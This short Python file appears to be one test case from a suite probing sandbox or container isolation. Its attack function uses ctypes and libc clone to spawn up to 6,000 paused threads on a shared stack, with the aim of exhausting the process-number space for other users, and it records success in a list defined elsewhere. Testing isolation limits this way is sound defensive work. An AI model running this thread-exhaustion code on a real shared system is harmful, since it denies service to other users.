# claim: starts threads that share one small stack, until the machine has no numbers left for those of others
# needs: uid + rlimits or namespaces + rlimits
# verdicts: shout raised
# status: needs_ta
import ctypes
import mmap

libc = ctypes.CDLL(None)
FLAGS = 0x50F00  # CLONE_VM, FS, FILES, SIGHAND, THREAD, SYSVSEM
MOST = 6_000
stack = mmap.mmap(-1, 1 << 16)


def attack():
    top = ctypes.c_void_p(ctypes.addressof(ctypes.c_char.from_buffer(stack)) + (1 << 15))
    made = 0
    while made < MOST and libc.clone(libc.pause, top, FLAGS, None) > 0:
        made += 1
    if made == MOST:
        SAID.append(f"GAINED {made} threads")
